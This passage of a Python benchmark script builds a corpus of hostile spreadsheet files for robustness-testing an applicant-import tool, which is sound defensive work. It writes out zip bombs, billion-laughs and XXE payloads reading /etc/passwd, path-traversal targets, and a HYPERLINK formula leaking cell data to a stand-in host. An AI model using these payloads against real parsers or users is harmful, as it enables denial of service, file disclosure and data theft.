"""A corpus of hostile applicant files (issue 15), and a run of each through ``eligibility-desk import``.

    python benchmarks/hostile_corpus.py build OUT_DIR [--big]     # write the corpus
    python benchmarks/hostile_corpus.py run OUT_DIR [--big] [-k WORD] [--jobs 2]

``run`` builds the corpus, then imports every file in its own process under a memory limit
(``RLIMIT_AS``, as ``prlimit --as`` sets it: :data:`MEMORY`) and a time limit (:data:`SECONDS`), into a copy of a database that already
holds one applicant, and lists each file whose import

* ends other than with exit status 0, 1 or 2 (a crash, a signal, the time limit),
* prints ``Traceback`` or nothing Chinese on a refusal,
* changes the database although refused (a digest of every table before and after),
* prints a problem line without a place (``SHEET 第 N 行「COLUMN」列`` / ``第 N 行`` / a sheet name), or
* is accepted and then stores text the text policy refuses, or exports a formula (``<f>``) for user text.

``--big`` adds the cases of hundreds of MB (a zip bomb inflating to over 1 GiB, a 100 MB shared string,
200 MB of JSON white space, a 50 MB CSV line); without it the corpus is a few MB and runs in minutes.
The builders are importable: tests/services/records/test_hostile_corpus.py runs the small cases.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

MEMORY = 1_500_000_000
SECONDS = 120
HEADERS = ["身份证号码", "姓名", "考生编号", "申报等级", "联系电话"]


def id_number(sequence: int, born: date = date(1990, 3, 7)) -> str:
    from eligibility_desk.domain.idnumber import make_id_number

    return make_id_number("110105", born, sequence)


GOOD = [id_number(1), "张三", "A001", "4", "13800000000"]


# --- a hand-made .xlsx (every byte under our control) ---------------------------------------------------

CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
                 b'-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                 b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument'
                 b'.spreadsheetml.sheet.main+xml"/></Types>')
ROOT_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
             b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
             b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RNS = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
STYLES = (b'<?xml version="1.0" encoding="UTF-8"?><styleSheet ' + NS + b'><numFmts count="0"/><fonts count="1"><font/>'
          b'</fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/>'
          b'</cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
          b'</styleSheet>')


def esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def col(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def cell_xml(ref: str, value) -> str:
    """A cell as Excel writes it: inline text, a number, or an already-made ``<c>`` (a str starting ``<c``)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith("<c "):
        return value
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{esc(value)}</t></is></c>'


def sheet_xml(rows: list[list], start: int = 1, prolog: str = "", extra: str = "") -> bytes:
    body = []
    for number, cells in enumerate(rows, start=start):
        body.append(f'<row r="{number}">' + "".join(cell_xml(f"{col(i)}{number}", v) for i, v in enumerate(cells, 1))
                    + "</row>")
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS.decode()}><sheetData>' + "".join(body)
            + f"</sheetData>{extra}</worksheet>").encode()


def workbook_parts(sheets: list[tuple[str, bytes]], hidden: tuple[str, ...] = (), shared: bytes | None = None,
                   book_prolog: str = "", targets: list[str] | None = None) -> dict[str, bytes]:
    """The zip members of a workbook holding ``sheets`` (name, sheet XML)."""
    entries, rels, parts = [], [], {}
    for i, (name, xml) in enumerate(sheets, start=1):
        state = ' state="hidden"' if name in hidden else ""
        entries.append(f'<sheet name="{esc(name)}" sheetId="{i}"{state} r:id="rId{i}"/>')
        target = targets[i - 1] if targets else f"worksheets/sheet{i}.xml"
        rels.append(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/worksheet" Target="{esc(target)}"/>')
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    n = len(sheets)
    rels.append(f'<Relationship Id="rId{n + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                f'relationships/styles" Target="styles.xml"/>')
    if shared is not None:
        rels.append(f'<Relationship Id="rId{n + 2}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/sharedStrings" Target="sharedStrings.xml"/>')
        parts["xl/sharedStrings.xml"] = shared
    book = (f'<?xml version="1.0" encoding="UTF-8"?>{book_prolog}<workbook {NS.decode()} {RNS.decode()}><sheets>'
            + "".join(entries) + "</sheets></workbook>").encode()
    return {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
                                           'schemas.openxmlformats.org/package/2006/relationships">'
                                           + "".join(rels) + "</Relationships>").encode(),
            "xl/styles.xml": STYLES, **parts}


def write_zip(path: Path, parts: dict[str, bytes] | list[tuple[str, bytes]]) -> Path:
    import warnings

    items = parts.items() if isinstance(parts, dict) else parts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names on purpose
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in items:
                archive.writestr(name, data)
    return path


def xlsx(path: Path, rows: list[list], name: str = "考生", **options) -> Path:
    return write_zip(path, workbook_parts([(name, sheet_xml([HEADERS, *rows]))], **options))


def shared_strings(texts: list[str], prolog: str = "") -> bytes:
    items = "".join(f'<si><t xml:space="preserve">{esc(t)}</t></si>' for t in texts)
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst {NS.decode()} count="{len(texts)}" '
            f'uniqueCount="{len(texts)}">{items}</sst>').encode()


def with_shared_name(path: Path, name_xml: str, prolog: str = "", sst: bytes | None = None) -> Path:
    """A workbook whose row-2 姓名 is shared string 0 (its ``<si>`` content given as XML)."""
    sst = sst or (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst {NS.decode()} count="1" uniqueCount="1">'
                  f"<si>{name_xml}</si></sst>").encode()
    row = [GOOD[0], '<c r="B2" t="s"><v>0</v></c>', *GOOD[2:]]
    return write_zip(path, workbook_parts([("考生", sheet_xml([HEADERS, row]))], shared=sst))


def zip_bomb(path: Path, megabytes: int) -> Path:
    """A sheet whose XML inflates to ``megabytes`` MB of blank rows (compressed to a few MB at most)."""
    head = sheet_xml([HEADERS, GOOD]).split(b"</sheetData>")[0]
    filler = b"<row/>" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in workbook_parts([("考生", b"")]).items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            for _ in range(megabytes * (1 << 20) // len(filler) + 1):
                fh.write(filler)
            fh.write(b"</sheetData></worksheet>")
    return path


def central_entry(raw: bytes | bytearray, member: str) -> int:
    """Where ``member``'s entry in the zip's central directory starts in ``raw`` (-1: none)."""
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46:at + 46 + length] == member.encode():
            return at
        at = raw.find(b"PK\x01\x02", at + 4)
    return -1


def damaged_stream(path: Path, member: str, data: bytes, overlong: bool = False) -> Path:
    """A workbook whose ``member`` is ``data`` deflated, then damaged: bytes early in its compressed stream flipped
    (the CRC and sizes as written) — or, ``overlong``, the stream cut before its last block (written stored, then
    marked deflated) and its compressed size stated (local and central headers) as running far past the end of
    the file, so that an inflater reads on into the central directory and off the end."""
    parts = workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))])
    parts.pop(member, None)
    if overlong:   # a deflate stream with no final block: what it holds, flushed, but never ended
        squeeze = zlib.compressobj(6, zlib.DEFLATED, -15)
        data = squeeze.compress(data) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    write_zip(path, parts)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED if overlong else zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, data)   # last: only the central directory follows its bytes
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    names, extra = struct.unpack_from("<HH", raw, info.header_offset + 26)
    start = info.header_offset + 30 + names + extra
    if not overlong:
        for at in range(start + 200, start + 264):
            raw[at] ^= 0x5A
        path.write_bytes(bytes(raw))
        return path
    struct.pack_into("<HH", raw, info.header_offset + 8, zipfile.ZIP_DEFLATED, 0)     # method; the time, unused
    struct.pack_into("<I", raw, info.header_offset + 18, 10_000_000)
    at = central_entry(raw, member)
    struct.pack_into("<H", raw, at + 10, zipfile.ZIP_DEFLATED)
    struct.pack_into("<I", raw, at + 20, 10_000_000)
    path.write_bytes(bytes(raw))
    return path


def lying_size(path: Path, member: str, data: bytes, stated: int) -> Path:
    """A workbook whose ``member`` states ``stated`` bytes uncompressed (local and central headers) while its
    stream inflates to ``data``."""
    parts = workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))])
    parts[member] = data
    write_zip(path, parts)
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    struct.pack_into("<I", raw, info.header_offset + 22, stated)
    at = central_entry(raw, member)
    if at >= 0:
        struct.pack_into("<I", raw, at + 24, stated)
    path.write_bytes(bytes(raw))
    return path


def ole_file(path: Path, marker: bytes = b"EncryptedPackage") -> Path:
    """The first bytes of a Compound File (an encrypted .xlsx, an .xls) — enough for any reader to see it."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    path.write_bytes(header + b"\0" * (512 - len(header)) + marker.ljust(4096, b"\0"))
    return path


def ods_file(path: Path) -> Path:
    return write_zip(path, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                            "content.xml": b'<?xml version="1.0"?><office:document-content '
                                           b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
                            "META-INF/manifest.xml": b"<manifest/>"})


def openpyxl_book(path: Path, build: Callable) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    build(wb)
    wb.save(path)
    return path


def _merged_header(wb):
    ws = wb.active
    ws.title = "考生"
    ws.append(HEADERS)
    ws.append(GOOD)
    ws.merge_cells("A1:B1")


def _header_on_row_5(wb):
    ws = wb.active
    ws.title = "考生"
    ws["A1"] = "2025 年秋季报名表"
    for cells in (HEADERS, GOOD):
        ws.append(cells)
    ws.move_range("A2:E3", rows=3)


def _two_applicant_sheets(names):
    def build(wb):
        wb.remove(wb.active)
        for i, name in enumerate(names):
            ws = wb.create_sheet(name)
            ws.append(HEADERS)
            ws.append([id_number(10 + i), f"考生{i}", f"B{i}", "4", ""])
    return build


def _hidden(wb):
    ws = wb.active
    ws.title = "考生"
    ws.append(HEADERS)
    ws.append(GOOD)
    ws.sheet_state = "hidden"
    wb.create_sheet("说明")


def _date_cells(values):
    """A 工作经历 sheet whose 开始日期 cells are numbers styled as dates (openpyxl: number_format)."""
    def build(wb):
        ws = wb.active
        ws.title = "考生"
        ws.append(HEADERS)
        ws.append(GOOD)
        work = wb.create_sheet("工作经历")
        work.append(["身份证号码", "职业（工种）", "工作单位", "开始日期", "结束日期"])
        for v in values:
            work.append([GOOD[0], "电子商务师", "某公司", v, None])
            work.cell(work.max_row, 4).number_format = "yyyy-mm-dd"
    return build


# --- the cases --------------------------------------------------------------------------------------------

TEXT_ATTACKS = {
    "bidi_isolate": "张\u2066三\u2069", "arabic_mark": "张\u061c三", "rlo": "张三\u202e", "zwsp": "张\u200b三",
    # a variation selector directly after an ideograph is a rare surname's variant glyph (accepted, "ivs_*");
    # alone, after a Latin letter or doubled it is refused
    "variation_selector": "张\ufe0f\ufe0f三", "vs_supplement": "\U000e0100张三", "vs_after_latin": "Li\U000e0100",
    "ivs_surname": "葛\U000e0100三", "ivs_standardized": "\uf900\ufe00之", "tag_chars": "张三\U000e0041\U000e007f",
    "hangul_filler": "\u3164", "hangul_filler_in": "张\u3164三", "halfwidth_filler": "张\uffa0三",
    "hangul_choseong_filler": "\u115f\u1160", "bom_inside": "张\ufeff三", "noncharacter": "张\ufffe三",
    "noncharacter_fdd0": "张\ufdd0三", "private_use": "张\ue000三", "combining_1000": "张" + "\u0301" * 1000,
    "combining_40": "张" + "\u0301" * 40, "cgj": "张\u034f三", "mongolian_fvs": "张\u180b三",
    "nul": "张\x00三", "esc": "张\x1b[31m三", "bel": "张\x07三", "del": "张\x7f三", "c1": "张\x85三",
    "line_sep": "张\u2028三", "formula": '=HYPERLINK("http://x.invalid/?leak="&A1,"点我")', "plus": "+1+1",
    "at": "@SUM(1)", "minus": "-2+3", "fullwidth_eq": "＝1+1", "tab_first": "\t=1+1", "error_word": "#N/A",
    "huge": "张" * 40_000, "emoji_zwj": "张👨\u200d👩三", "surrogate_text": "张\ud800三",
    "only_spaces": "\u3000 \u00a0", "fullwidth_name": "ＡＢＣ",
}


def build(out: Path, big: bool = False) -> list[Path]:
    """Write the corpus into ``out``; returns the files."""
    out.mkdir(parents=True, exist_ok=True)
    return [make(out, name) for name in cases(big)]


def make(folder: Path, name: str, big: bool = True) -> Path:
    """Write the case ``name`` into ``folder`` (with its sibling files, if any); returns its path."""
    path = folder / name
    made = cases(big)[name](path)
    return made if isinstance(made, Path) else path


def cases(big: bool = False) -> dict[str, Callable[[Path], object]]:
    """Every case of the corpus: file name -> the function writing it (given its path).  ``big``: with the
    cases of hundreds of MB."""
    files: dict[str, Callable[[Path], object]] = {}

    def add(name: str, maker: Callable[[Path], object]) -> None:
        files[name] = maker

    def text(path: Path, data: str | bytes, encoding: str = "utf-8") -> Path:
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding, "surrogatepass"))
        return path

    csv_head = ",".join(HEADERS)
    good_csv = ",".join(GOOD)

    # xlsx as a zip
    add("bomb-sheet-small.xlsx", lambda p: zip_bomb(p, 64))
    if big:
        add("bomb-sheet-1100mb.xlsx", lambda p: zip_bomb(p, 1100))
    add("lying-size-sheet.xlsx", lambda p: lying_size(p, "xl/worksheets/sheet1.xml",
                                                     sheet_xml([HEADERS, GOOD, *[[f"X{i}"] for i in range(2000)]]), 300))
    add("lying-size-far-cell.xlsx", lambda p: lying_size(p, "xl/worksheets/sheet1.xml",
                                                        sheet_xml([HEADERS, GOOD]).replace(
                                                            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576">'
                                                            b"<v>1</v></c></row></sheetData>"), 400))
    many_rows = sheet_xml([HEADERS, GOOD, *[[f"X{i}", f"名{i * 7919 % 10007}"] for i in range(3000)]])
    add("deflate-damaged-sheet.xlsx", lambda p: damaged_stream(p, "xl/worksheets/sheet1.xml", many_rows))
    add("deflate-overlong-sheet.xlsx", lambda p: damaged_stream(p, "xl/worksheets/sheet1.xml", many_rows, True))
    add("deflate-damaged-styles.xlsx", lambda p: damaged_stream(
        p, "xl/styles.xml", b"<styleSheet>" + b"".join(b"<x%d/>" % (i * 7919 % 10007) for i in range(3000))
        + b"</styleSheet>"))
    add("lying-size-workbook.xlsx", lambda p: lying_size(p, "xl/workbook.xml", workbook_parts(
        [("考生", b"")])["xl/workbook.xml"] + b" " * 5_000_000, 100))
    add("many-entries.xlsx", lambda p: write_zip(p, {**workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))]),
                                                    **{f"junk/{i}.bin": b"" for i in range(60_000)}}))
    add("many-xml-entries.xlsx", lambda p: write_zip(p, {**workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))]),
                                                        **{f"xl/junk{i}.xml": b"<a/>" for i in range(20_000)}}))
    far = sheet_xml([HEADERS, GOOD]).replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c>'
                                                               b"</row></sheetData>")
    add("duplicate-entry-far-first.xlsx", lambda p: write_zip(p, [
        ("xl/worksheets/sheet1.xml", far), *workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))]).items()]))
    add("duplicate-entry-far-last.xlsx", lambda p: write_zip(p, [
        *workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))]).items(), ("xl/worksheets/sheet1.xml", far)]))
    add("duplicate-workbook-xml.xlsx", lambda p: write_zip(p, [
        *workbook_parts([("考生", sheet_xml([HEADERS, GOOD])), ("学历", far)]).items(),
        ("xl/workbook.xml", workbook_parts([("考生", b"")])["xl/workbook.xml"])]))
    add("target-dotdot.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["../../../../etc/passwd"])))
    add("target-dotdot-inside.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["worksheets/../worksheets/sheet1.xml"])))
    add("target-absolute.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["/xl/worksheets/sheet1.xml"])))
    add("target-backslash.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["worksheets\\sheet1.xml"])))
    add("target-to-sharedstrings.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["styles.xml"])))
    add("target-url.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))], targets=["http://x.invalid/sheet.xml"])))
    add("entry-dotdot-name.xlsx", lambda p: write_zip(p, {**workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))]),
                                                         "../../evil.xml": b"<a/>", "/abs.xml": b"<a/>"}))
    add("encrypted-ole.xlsx", ole_file)
    add("biff.xlsx", lambda p: ole_file(p, b"Workbook"))
    add("ods-renamed.xlsx", ods_file)
    add("truncated.xlsx", lambda p: (xlsx(p, [GOOD]), p.write_bytes(p.read_bytes()[:700]))[0])
    add("truncated-end.xlsx", lambda p: (xlsx(p, [GOOD]), p.write_bytes(p.read_bytes()[:-30]))[0])
    add("no-workbook-xml.xlsx", lambda p: write_zip(p, {k: v for k, v in workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))]).items() if k != "xl/workbook.xml"}))
    add("no-rels.xlsx", lambda p: write_zip(p, {k: v for k, v in workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))]).items() if k != "xl/_rels/workbook.xml.rels"}))
    add("no-sheet-part.xlsx", lambda p: write_zip(p, {k: v for k, v in workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))]).items() if k != "xl/worksheets/sheet1.xml"}))
    add("empty-zip.xlsx", lambda p: write_zip(p, {}))
    add("empty-file.xlsx", lambda p: text(p, b""))
    add("text-renamed.xlsx", lambda p: text(p, good_csv))
    add("no-rows.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([]))])))
    add("no-sheets.xlsx", lambda p: write_zip(p, workbook_parts([])))
    add("header-only.xlsx", lambda p: xlsx(p, []))
    add("header-row-5.xlsx", lambda p: openpyxl_book(p, _header_on_row_5))
    add("merged-header.xlsx", lambda p: openpyxl_book(p, _merged_header))
    add("hidden-sheet.xlsx", lambda p: openpyxl_book(p, _hidden))
    add("two-applicant-sheets-space.xlsx", lambda p: openpyxl_book(p, _two_applicant_sheets(["考生", "考 生"])))
    add("two-applicant-sheets-fullwidth.xlsx", lambda p: openpyxl_book(p, _two_applicant_sheets(["考生", "考生＊"])))
    add("sheet-name-spaces.xlsx", lambda p: openpyxl_book(p, _two_applicant_sheets([" 考生 "])))
    add("duplicate-sheet-names.xlsx", lambda p: write_zip(p, workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD])), ("考生", sheet_xml([HEADERS, [id_number(5), "李四", "", "4", ""]]))])))
    add("duplicate-sheet-names-case.xlsx", lambda p: write_zip(p, workbook_parts(
        [("Sheet", sheet_xml([HEADERS])), ("考生", sheet_xml([HEADERS, GOOD])), ("SHEET", sheet_xml([HEADERS]))])))
    add("sheet-name-empty.xlsx", lambda p: write_zip(p, workbook_parts([("", sheet_xml([HEADERS, GOOD]))])))

    # XML inside the workbook
    laughs = ('<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
              + "]>")
    xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    add("laughs-sharedstrings.xlsx", lambda p: with_shared_name(p, "<t>&lol9;</t>", prolog=laughs))
    add("xxe-sharedstrings.xlsx", lambda p: with_shared_name(p, "<t>&xxe;</t>", prolog=xxe))
    add("doctype-sharedstrings.xlsx", lambda p: with_shared_name(p, "<t>张三</t>", prolog="<!DOCTYPE sst>"))
    add("laughs-sheet.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, [GOOD[0], '<c r="B2" t="inlineStr"><is><t>&lol9;</t></is></c>', *GOOD[2:]]], prolog=laughs))])))
    add("xxe-sheet.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, [GOOD[0], '<c r="B2" t="inlineStr"><is><t>&xxe;</t></is></c>', *GOOD[2:]]], prolog=xxe))])))
    add("laughs-workbook.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))],
                                                                      book_prolog=laughs)))
    add("xxe-workbook.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]))],
                                                                   book_prolog=xxe)))
    add("entity-sheet-name.xlsx", lambda p: write_zip(p, workbook_parts(
        [("&lol9;", sheet_xml([HEADERS, GOOD]))], book_prolog=laughs)))
    add("malformed-sheet-xml.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD])[:-40])])))
    add("malformed-sheet-careful.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, GOOD]).replace(b"<sheetData>", b"<sheetData><!-- x -->").replace(b"</row>", b"</rowx>", 1))])))
    add("malformed-workbook-xml.xlsx", lambda p: write_zip(p, {**workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))]), "xl/workbook.xml": b"<workbook><sheets><sheet"}))
    add("malformed-rels.xlsx", lambda p: write_zip(p, {**workbook_parts(
        [("考生", sheet_xml([HEADERS, GOOD]))]), "xl/_rels/workbook.xml.rels": b"\xff\xfe<R"}))
    add("malformed-sharedstrings.xlsx", lambda p: with_shared_name(p, "", sst=b"<sst><si><t>unclosed"))
    add("sharedstrings-index-out-of-range.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, [GOOD[0], '<c r="B2" t="s"><v>99999999</v></c>', *GOOD[2:]]]))], shared=shared_strings(["x"]))))
    add("sharedstrings-index-negative.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, [GOOD[0], '<c r="B2" t="s"><v>-1</v></c>', *GOOD[2:]]]))], shared=shared_strings(["x"]))))
    deep = "<row>" * 200_000 + "</row>" * 200_000
    add("deep-nesting-sheet.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, GOOD]).replace(b"</sheetData>", deep.encode() + b"</sheetData>"))])))
    add("deep-nesting-cell.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml(
        [HEADERS, [GOOD[0], '<c r="B2" t="inlineStr"><is>' + "<r>" * 100_000 + "<t>x</t>" + "</r>" * 100_000
         + "</is></c>", *GOOD[2:]]]))])))
    add("shared-string-1mb.xlsx", lambda p: with_shared_name(p, "<t>" + "张" * 1_000_000 + "</t>"))
    if big:
        add("shared-string-100mb.xlsx", lambda p: with_shared_name(p, "<t>" + "张" * 35_000_000 + "</t>"))
        add("many-shared-strings.xlsx", lambda p: with_shared_name(p, "", sst=shared_strings(
            [f"s{i}" for i in range(3_000_000)])))
    add("inline-string.xlsx", lambda p: xlsx(p, [GOOD]))
    add("text-hangul-charref.xlsx", lambda p: with_shared_name(p, "<t>张&#x3164;三</t>"))
    add("text-hangul-ooxml-escape.xlsx", lambda p: with_shared_name(p, "<t>张_x3164_三</t>"))
    add("text-hangul-inline-charref.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2" t="inlineStr"><is><t>张&#12644;三</t>'
                                                                 "</is></c>", *GOOD[2:]]]))
    add("text-hangul-utf16-sharedstrings.xlsx", lambda p: with_shared_name(p, "", sst=(
        '<?xml version="1.0" encoding="UTF-16"?><sst ' + NS.decode() + ' count="1" uniqueCount="1"><si><t>张\u3164三'
        "</t></si></sst>").encode("utf-16")))
    add("rich-text.xlsx", lambda p: with_shared_name(p, '<r><t>张</t></r><r><rPr><b/></rPr><t>三</t></r>'))
    add("rich-text-phonetic.xlsx", lambda p: with_shared_name(p, '<t>张三</t><rPh sb="0" eb="1"><t>ZHANG</t></rPh>'))
    add("cell-error.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2" t="e"><v>#DIV/0!</v></c>', *GOOD[2:]]]))
    add("cell-error-id.xlsx", lambda p: xlsx(p, [['<c r="A2" t="e"><v>#N/A</v></c>', *GOOD[1:]]]))
    add("cell-bool-name.xlsx", lambda p: xlsx(p, [[GOOD[0], True, *GOOD[2:]]]))
    add("cell-bool-bad.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2" t="b"><v>7</v></c>', *GOOD[2:]]]))
    add("cell-number-bad.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2"><v>abc</v></c>', *GOOD[2:]]]))
    add("cell-type-unknown.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2" t="zz"><v>1</v></c>', *GOOD[2:]]]))
    add("cell-str-formula.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2" t="str"><f>A2&amp;"x"</f><v>张三</v></c>',
                                                     *GOOD[2:]]]))
    add("cell-shared-formula.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2"><f t="shared" si="0"/><v>1</v></c>',
                                                        *GOOD[2:]]]))
    add("cell-array-formula.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2"><f t="array" ref="B2">1</f></c>',
                                                       *GOOD[2:]]]))
    add("cell-ref-bad.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B2x" t="inlineStr"><is><t>x</t></is></c>', *GOOD[2:]]]))
    add("cell-ref-lowercase.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="b2" t="inlineStr"><is><t>x</t></is></c>',
                                                       *GOOD[2:]]]))
    add("cell-ref-huge-row.xlsx", lambda p: xlsx(p, [[GOOD[0], '<c r="B99999999" t="inlineStr"><is><t>x</t></is></c>',
                                                       *GOOD[2:]]]))
    add("cell-ref-out-of-order.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]).replace(
        b"</sheetData>", b'<row r="3"><c r="A1000000"><v>1</v></c></row></sheetData>'))])))
    add("row-r-huge.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]).replace(
        b"</sheetData>", b'<row r="4000000000"><c><v>1</v></c></row></sheetData>'))])))
    add("row-r-bad.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]).replace(
        b"</sheetData>", b'<row r="-5"><c><v>1</v></c></row></sheetData>'))])))
    add("cells-no-ref-wide.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]).replace(
        b"</sheetData>", b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row></sheetData>"))])))
    add("dimension-lies.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD]).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'))])))
    for label, serial in (("zero", "0"), ("negative", "-1"), ("max", "2958466"), ("huge", "1e308"), ("tiny", "1e-300"),
                          ("nan", "NaN"), ("inf", "INF"), ("neg-huge", "-1e308"), ("frac", "45000.999999")):
        add(f"date-serial-{label}.xlsx", lambda p, s=serial: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD])),
            ("工作经历", sheet_xml([["身份证号码", "职业（工种）", "工作单位", "开始日期", "结束日期"],
                                    [GOOD[0], "电子商务师", "某公司", f'<c r="D2" s="1"><v>{s}</v></c>', None]]))])))
    add("date-cell-iso.xlsx", lambda p: write_zip(p, workbook_parts([("考生", sheet_xml([HEADERS, GOOD])),
        ("工作经历", sheet_xml([["身份证号码", "职业（工种）", "工作单位", "开始日期", "结束日期"],
                                [GOOD[0], "电子商务师", "某公司", '<c r="D2" t="d"><v>2019-13-45T99:00:00</v></c>', None]]))])))
